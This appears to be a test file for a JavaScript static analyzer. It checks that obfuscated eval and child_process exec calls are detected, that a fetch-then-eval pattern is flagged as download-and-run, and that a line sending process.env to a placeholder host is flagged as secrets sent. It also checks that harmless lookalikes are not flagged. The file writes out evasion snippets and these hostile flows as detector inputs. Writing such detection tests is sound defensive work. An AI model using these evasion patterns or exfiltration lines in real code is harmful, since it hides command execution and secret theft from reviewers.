import { lookAtText } from '../look-at-text.ts';
import { treeOf } from './tree-of.ts';

type Case = readonly [string, string, string, string];

const hidden: readonly (readonly [string, string, string, string?])[] = [
  ['a name with escapes', '\\u0065val(x)', 'evaluate'],
  ['a name with braced escapes inside', 'ev\\u{61}l(x)', 'evaluate'],
  ['a part with escapes', "require('child_process').\\u0065xec(x)", 'process'],
  ['a text that grows', "let s = ''; s += 'child'; s += '_process'; require(s).exec(c)", 'process'],
  ['a tag that gives its text back', 'const t = (s) => s[0]; require(t`child_process`).exec(c)', 'process'],
  ['a raw text', 'require(String.raw`child_process`).exec(c)', 'process'],
  ['an import of TypeScript', "import cp = require('child_process'); cp.exec(c)", 'process', 'a.ts'],
  ['an enumeration', "enum E { A = 'child_process', B = 'exec' } require(E.A)[E.B](c)", 'process', 'a.ts'],
  ['a reflected call', "Reflect.apply(require('child_process').exec, null, [c])", 'process'],
  ['a reflected constructor', 'Reflect.construct(Function, [code])()', 'evaluate'],
  [
    'an import that is put together',
    "const x = 'child_process'; const m = await import('node:' + x); m.exec(c)",
    'process',
  ],
  ['a binding', "process.binding('spawn_sync').spawn(o)", 'process'],
  ['the loader of modules', "module.constructor._load('child_process').exec(c)", 'process'],
  ['the constructor of a constructor in brackets', "[]['constructor']['constructor'](code)()", 'evaluate'],
  [
    'letters that are counted with a key',
    "const d = (s, k) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join(''); require(d('bihme^qsnbdrr', 1)).exec(c)",
    'process',
  ],
  ['a getter', "const o = { get e() { return require('child_process').exec } }; o.e(c)", 'process'],
  [
    'a part that is defined',
    "const o = {}; Object.defineProperty(o, 'e', { value: require('child_process').exec }); o.e(c)",
    'process',
  ],
  [
    'attributes of an import',
    "import d from './d.json' with { type: 'json' }; import { exec as e } from 'child_process'; e(d.c)",
    'process',
  ],
  [
    'the script of a component',
    '<template><p :a="b(\'`\')"/></template>\n<script lang="ts">\nconst { execSync: r } = require(\'child_process\'); r(x as string)\n</script>',
    'process',
    'a.vue',
  ],
];

describe('calls that are hidden in the grammar', () => {
  it.each(hidden.map(([name, code, act, path = 'a.js']): Case => [name, code, act, path]))(
    'are found behind %s',
    (_, code, act, path) => {
      expect(treeOf(code, 'javascript', path)?.acts ?? []).toContain(act);
    },
  );

  it('are found where a promise hands what it is of to what runs it', () => {
    expect(treeOf('fetch(u).then((r) => r.text()).then(eval)', 'javascript')?.flows).toEqual(['download-and-run']);
    expect(treeOf('fetch(u).then((r) => r.text()).then(show)', 'javascript')?.flows).toEqual([]);
  });

  it('are found by an environment under other names', () => {
    const code = "const p = process; const { env } = p; fetch('https://x.example', { body: JSON.stringify(env) })";
    expect(treeOf(code, 'javascript')?.flows).toEqual(['secrets-sent']);
  });
});

describe('code that looks like it', () => {
  it.each([
    ['the global object of old engines', "var g = Function('return this')(); g.x = 1"],
    ['a bundler that names modules', 'function r(id) { return modules[id] } r(1); const f = (s) => s; f`a`'],
    ['escapes in texts', "const s = '\\u0065val(x)'; const t = /\\u0065val/; use(s, t)"],
    ['a counter', 'let i = 0; for (const x of xs) i += 1; use(i)'],
    ['an enumeration of words', "enum Level { Info = 'info', Exec = 'exec' } use(Level.Exec)"],
    ['a reflection on its own', 'Reflect.apply(own, null, [1]); function own(a) { return a }'],
    ['a text that grows', "let out = ''; for (const x of xs) out += x + ', '; console.log(out)"],
  ])('says nothing: %s', (_, code) => {
    expect(lookAtText(code, 'javascript').drafts).toEqual([]);
  });
});
